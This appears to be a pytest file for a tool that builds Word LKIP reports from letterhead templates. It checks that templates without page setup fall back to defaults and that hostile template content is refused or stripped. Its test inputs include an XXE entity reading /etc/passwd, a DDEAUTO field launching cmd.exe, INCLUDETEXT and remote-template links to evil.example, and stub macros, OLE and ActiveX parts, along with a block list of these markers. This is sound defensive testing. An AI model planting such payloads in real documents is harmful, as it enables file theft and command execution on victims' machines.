"""A Word template contributes only what it is for (issue class: a template without section
properties crashed the document; a DTD in it was carried into the LKIP; external and active
content travelled along)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from docx.shared import Cm

from sakip_xlsx.cli import main
from tests.helpers import png, write_workbook

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _png() -> bytes:
    return png()


def _kop(path: Path) -> Path:
    """A letterhead as Word makes it: margins, a header with the pemda's name and logo."""
    letter = docx.Document()
    section = letter.sections[0]
    section.left_margin = Cm(3)
    header = section.header.paragraphs[0]
    header.text = "PEMERINTAH KABUPATEN CONTOH"
    header.add_run().add_picture(io.BytesIO(_png()), width=Cm(1))
    letter.add_paragraph("isi contoh yang tidak dibawa")
    letter.save(path)
    return path


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def _save(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def _header_name(parts: dict[str, bytes]) -> str:
    return next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))


def _edit(path: Path, part: str, pattern: bytes, new: bytes) -> None:
    parts = _parts(path)
    edited, count = re.subn(pattern, new, parts[part], count=1)
    assert count == 1, (part, pattern)
    parts[part] = edited
    _save(path, parts)


def _add_rel(parts: dict[str, bytes], part: str, rid: str, kind: str, target: str, external):
    folder, base = part.rsplit("/", 1)
    name = f"{folder}/_rels/{base}.rels"
    rels = parts.get(name) or (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"{mode}/>'
    parts[name] = rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _dokumen(tmp_path: Path, kop: Path):
    isian = write_workbook(tmp_path / "isian.xlsx")
    out = tmp_path / "lkip.docx"
    result = CliRunner().invoke(
        main, ["dokumen", str(isian), "-o", str(out), "--templat-dokumen", str(kop)]
    )
    return result, out


def _made(result, out: Path) -> dict[str, bytes]:
    assert result.exit_code in (0, 1), result.output
    assert "Galat internal" not in result.output and "Traceback" not in result.output
    document = docx.Document(str(out))  # opens: well-formed, a real Word document
    assert document.sections[0].page_width and document.sections[0].left_margin is not None
    return _parts(out)


# --- a template that lacks page setup uses Word's defaults ------------------------------------


@pytest.mark.parametrize(
    ("pattern", "new"),
    [
        (rb"<w:sectPr.*?</w:sectPr>", b""),  # no section properties at all
        (rb"<w:pgSz[^>]*/>", b""),
        (rb"<w:pgMar[^>]*/>", b""),
        (rb"<w:pgSz[^>]*/>", b"<w:pgSz/>"),  # present, without its sizes
        (rb"<w:pgMar[^>]*/>", b'<w:pgMar w:top="abc"/>'),
    ],
)
def test_a_template_without_page_setup_uses_words_defaults(tmp_path, pattern, new):
    kop = _kop(tmp_path / "kop.docx")
    _edit(kop, "word/document.xml", pattern, new)
    parts = _made(*_dokumen(tmp_path, kop))
    assert b"<w:pgSz" in parts["word/document.xml"]


def test_the_template_gives_its_margins_and_kop(tmp_path):
    result, out = _dokumen(tmp_path, _kop(tmp_path / "kop.docx"))
    _made(result, out)
    document = docx.Document(str(out))
    assert abs(document.sections[0].left_margin - Cm(3)) < Cm(0.01)
    header = document.sections[0].header
    assert "PEMERINTAH KABUPATEN CONTOH" in "".join(p.text for p in header.paragraphs)
    assert header.part.related_parts  # the logo travels with its header
    assert "isi contoh yang tidak dibawa" not in "".join(p.text for p in document.paragraphs)


# --- XML attacks are refused ----------------------------------------------------------------


@pytest.mark.parametrize("where", ["word/document.xml", "word/styles.xml", "header"])
@pytest.mark.parametrize(
    "prolog",
    [
        b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE w [<!ENTITY a "aaaa">]>',
        b"<!DOCTYPE w>",
    ],
)
def test_a_dtd_anywhere_in_the_template_is_refused(tmp_path, where, prolog):
    kop = _kop(tmp_path / "kop.docx")
    parts = _parts(kop)
    part = _header_name(parts) if where == "header" else where
    # after a long comment, so a look at the first bytes alone would not see it
    parts[part] = re.sub(
        rb"(<\?xml[^>]*\?>)", rb"\1<!--" + b" " * 8000 + b"-->" + prolog, parts[part], count=1
    )
    _save(kop, parts)
    result, out = _dokumen(tmp_path, kop)
    assert result.exit_code == 2, result.output
    assert "kop.docx" in result.output and "DTD" in result.output
    assert "Traceback" not in result.output and not out.exists()


def test_an_undeclared_entity_is_refused_not_carried(tmp_path):
    kop = _kop(tmp_path / "kop.docx")
    parts = _parts(kop)
    header = _header_name(parts)
    parts[header] = parts[header].replace(b"PEMERINTAH", b"&xxe;PEMERINTAH", 1)
    _save(kop, parts)
    result, out = _dokumen(tmp_path, kop)
    assert result.exit_code == 2, result.output
    assert "kop.docx" in result.output and not out.exists()


# --- active and external content is left behind and named ------------------------------------


def _hostile(tmp_path: Path) -> Path:
    kop = _kop(tmp_path / "kop.docx")
    parts = _parts(kop)
    header = _header_name(parts)
    # a remote template
    _add_rel(parts, "word/settings.xml", "rIdT", "attachedTemplate", "http://evil.example/t", True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>'
    )
    if R_NS.encode() not in parts["word/settings.xml"]:
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:settings ", b"<w:settings " + R_NS.encode() + b" ", 1
        )
    # macros
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    _add_rel(parts, "word/document.xml", "rIdV", "vbaProject", "vbaProject.bin", False)
    # altChunk in the body
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>x</html>"
    _add_rel(parts, "word/document.xml", "rIdA", "aFChunk", "afchunk.mht", False)
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b'<w:body><w:altChunk r:id="rIdA"/>', 1
    )
    # in the header: DDE fields, an external image, an embedded object, an ActiveX control
    _add_rel(parts, header, "rIdX", "image", "http://evil.example/pixel.png", True)
    _add_rel(parts, header, "rIdO", "oleObject", "../embeddings/oleObject1.bin", False)
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0ole"
    _add_rel(parts, header, "rIdC", "control", "../activeX/activeX1.xml", False)
    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>'
    hostile = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        b'"/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        b'<w:r><w:t>hasil</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        b'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example/x.docx&quot;">'
        b"<w:r><w:t>disisipkan</w:t></w:r></w:fldSimple></w:p>"
        b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        b'<v:imagedata r:id="rIdX"/></v:shape></w:pict></w:r></w:p>'
        b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        b'r:id="rIdO"/></w:object></w:r></w:p>'
        b'<w:p><w:r><w:object><w:control r:id="rIdC"/></w:object></w:r></w:p>'
    )
    parts[header] = re.sub(rb"(</w:hdr>)", hostile + rb"\1", parts[header], count=1)
    if R_NS.encode() not in parts[header]:
        parts[header] = parts[header].replace(b"<w:hdr ", b"<w:hdr " + R_NS.encode() + b" ", 1)
    return _save(kop, parts)


FORBIDDEN = [
    b'TargetMode="External"',
    b"attachedTemplate",
    b"DDEAUTO",
    b"INCLUDETEXT",
    b"evil.example",
    b"vbaProject",
    b"altChunk",
    b"aFChunk",
    b"activeX",
    b"oleObject",
    b"OLEObject",
    b"<w:object",
    b"<w:control",
]


def test_active_and_external_content_is_removed_and_named(tmp_path):
    result, out = _dokumen(tmp_path, _hostile(tmp_path))
    parts = _made(result, out)
    blob = b"".join(parts.values())
    for bad in FORBIDDEN:
        assert bad not in blob, bad
    assert not [n for n in parts if n.endswith((".bin", ".mht")) or "activeX" in n]
    for named in ("makro", "altChunk", "DDEAUTO", "INCLUDETEXT", "templat terlampir", "ActiveX"):
        assert named in result.output, (named, result.output)
    assert "tautan eksternal" in result.output and "objek tertanam" in result.output
    header = docx.Document(str(out)).sections[0].header
    text = "".join(p.text for p in header.paragraphs)
    assert "PEMERINTAH KABUPATEN CONTOH" in text and "hasil" in text  # the field's shown text
